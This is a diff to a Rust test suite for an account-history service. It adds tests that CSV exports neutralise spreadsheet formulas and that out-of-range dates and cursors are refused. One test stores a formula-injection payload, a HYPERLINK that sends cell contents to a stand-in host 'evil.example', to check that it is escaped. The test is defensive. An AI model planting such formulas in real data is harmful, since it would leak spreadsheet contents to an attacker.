@@ -376,6 +376,48 @@ async fn history_filters_by_person_action_and_dates_and_exports_everything(pool:
         matches!(e, AppError::Forbidden),
         "a plain member does not read the account's history: {e:?}"
     );
+
+    // Other people's text never starts a spreadsheet formula in a CSV export.
+    record::record(
+        &mut pool.acquire().await.unwrap(),
+        Entry {
+            actor_id: Some(ben.id),
+            action: "member.noted",
+            account_id: Some(account),
+            reason: Some("=HYPERLINK(\"http://evil.example/?\"&A2)".into()),
+            ..Default::default()
+        },
+    )
+    .await
+    .unwrap();
+    let f = HistoryFilter {
+        q: "HYPERLINK".into(),
+        ..Default::default()
+    };
+    let (_, _, csv) = service::export(st, &olga, scope, &f, service::Format::Csv)
+        .await
+        .unwrap();
+    let text = String::from_utf8(csv).unwrap();
+    assert!(text.contains(",\"'=HYPERLINK("), "{text}");
+
+    // Dates and cursors beyond what a history can hold are refused, not a database error.
+    for (from, cursor) in [
+        (chrono::NaiveDate::from_ymd_opt(-5000, 1, 1), None),
+        (None, Some("-210866803200000001.1")),
+        (chrono::NaiveDate::from_ymd_opt(10000, 1, 1), None),
+    ] {
+        let f = HistoryFilter {
+            from,
+            ..Default::default()
+        };
+        let e = service::page(st, &olga, scope, &f, cursor, 10)
+            .await
+            .unwrap_err();
+        assert!(
+            matches!(e, AppError::Validation { .. }),
+            "{from:?} {cursor:?}: {e:?}"
+        );
+    }
 }
 
 /// Olga owns Acme; Sam is a super admin, Ada an admin, Xavier (an admin) is removed.
